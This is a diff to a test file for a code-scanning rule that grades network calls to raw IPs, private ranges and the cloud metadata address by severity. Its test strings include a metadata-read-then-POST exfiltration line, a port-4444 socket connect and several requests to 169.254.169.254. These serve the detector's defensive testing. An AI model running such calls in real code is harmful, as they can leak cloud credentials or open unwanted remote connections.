@@ -8,23 +8,31 @@ const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text }
 test("bad: what it looks for", () => {
   for (const code of [
     "fetch(\"http://203.0.113.9/x\")",
-    "fetch(\"http://169.254.169.254/latest/meta-data/\")",
     "net.connect({ host: \"10.0.0.7\", port: 1 })",
     "new WebSocket(`ws://192.168.1.5:${port}/`)",
     "fetch(\"http://2130706433/\")",
-    "fetch(\"http://[fd00:ec2::254]/\")",
-    "go(\"http://user@203.0.113.9:80/\")",
+    "fetch(\"http://user@203.0.113.9:80/\")",
+    "require(\"net\").connect(4444, \"203.0.113.9\")",
+    "const base = \"http://203.0.113.9\"; require(\"https\").get(base + \"/x\")",
+    "const r = await fetch(\"http://169.254.169.254/x\"); await fetch(\"https://example.org\", { method: \"POST\", body: await r.text() })",
   ]) assert.equal(worst(code), 'high', code);
   for (const code of [
+    "go(\"http://203.0.113.9/x\")",
+    "fetch(\"http://169.254.169.254/latest/meta-data/\")",
+    "fetch(\"http://[fd00:ec2::254]/\")",
+  ]) assert.equal(worst(code), 'medium', code);
+  for (const code of [
+    "const IMDS = \"http://169.254.169.254/metadata\"",
+    "const docs = \"http://192.168.1.5/\"",
+    "fetch(\"https://1.1.1.1/dns-query\")",
     "fetch(\"http://127.0.0.1:8080/\")",
   ]) assert.equal(worst(code), 'low', code);
 });
 
 test("bad: the same in Python", () => {
-  for (const code of [
-    "u = \"http://203.0.113.9/x\"",
-    "go(\"http://169.254.169.254/\")",
-  ]) assert.equal(worst(code, 'a.py'), 'high', code);
+  assert.equal(worst("import requests\nrequests.get(\"http://203.0.113.9/x\")", 'a.py'), 'high');
+  assert.equal(worst("u = \"http://203.0.113.9/x\"", 'a.py'), 'medium');
+  assert.equal(worst("go(\"http://169.254.169.254/\")", 'a.py'), 'low');
 });
 
 test("good: what only looks like it", () => {
